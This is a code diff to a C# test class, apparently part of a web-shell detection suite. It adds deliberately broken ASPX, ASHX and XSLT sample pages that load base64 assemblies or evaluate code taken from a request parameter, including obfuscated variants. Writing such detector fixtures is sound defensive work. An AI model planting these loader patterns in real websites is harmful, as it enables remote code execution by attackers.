@@ -40,6 +40,18 @@ internal static class InertPages
         ("class.jsp", "<%!class U extends ClassLoader{Class g(byte[] b){return super.defineClass(b,0,b.length);}}%><%\n" + Broken
             + "new U().g(Base64.getDecoder().decode(request.getParameter(\"inertkey\")));%>"),
         ("web.config", "<?xml version=\"1.0\"?><configuration><system.webServer/></configuration>\n<!--\n<%\n" + Broken + "Execute(Request(\"inertkey\"))\n%>\n-->"),
+        ("lambda.aspx", "<%@ Page Language=\"C#\" %><%\n" + Broken
+            + "Func<byte[], object> load = (b) => { var a = Assembly.Load(b); return a.CreateInstance(\"Y\"); };\nload(Convert.FromBase64String(Request[\"inertkey\"]));%>"),
+        ("captured.aspx", "<%@ Page Language=\"C#\" %><%\n" + Broken
+            + "Action<Page> go = (p) => { byte[] b = Convert.FromBase64String(p.Request[\"inertkey\"]); Action<string> run = n => { Assembly.Load(b).CreateInstance(n); }; run(\"Y\"); };\ngo(this);%>"),
+        ("unnamed.ashx", "<%@ Language=\"C#\" Class=\"X\" %>\n" + Broken
+            + "public class X { byte[] Body(HttpRequest r) { return Convert.FromBase64String(r.Form[\"inertkey\"]); } void P(HttpContext c) { var b = this.Body(c.Request); Assembly.Load(b); } }"),
+        ("built.aspx", "<%@ Page Language=\"C#\" %><script runat=\"server\">\n" + Broken
+            + "class L { public L(byte[] b) { Assembly.Load(b); } }\nvoid Page_Load() { var l = new L(Convert.FromBase64String(Request[\"inertkey\"])); }</script>"),
+        ("letters.aspx", "<%@ Page Language=\"C#\" %><%\n" + Broken
+            + "var b = Convert.FromBase64String(Request[\"inertkey\"]);\nType.GetType(new string(new char[] { 'S', 'y', 's' }) + \"tem.Reflection.Assembly\").GetMethod(\"Load\").Invoke(null, new object[] { b });%>"),
+        ("sheet.xsl", "<xsl:stylesheet xmlns:msxsl=\"urn:schemas-microsoft-com:xslt\"><msxsl:script language=\"JScript\" implements-prefix=\"x\">\n" + Broken
+            + "function go() { eval(Request.Item[\"inertkey\"], \"unsafe\"); }</msxsl:script></xsl:stylesheet>"),
         ("razor.cshtml", "@{ " + Broken + " System.Diagnostics.Process.Start(Request[\"inertkey\"]); }"),
     ];
 
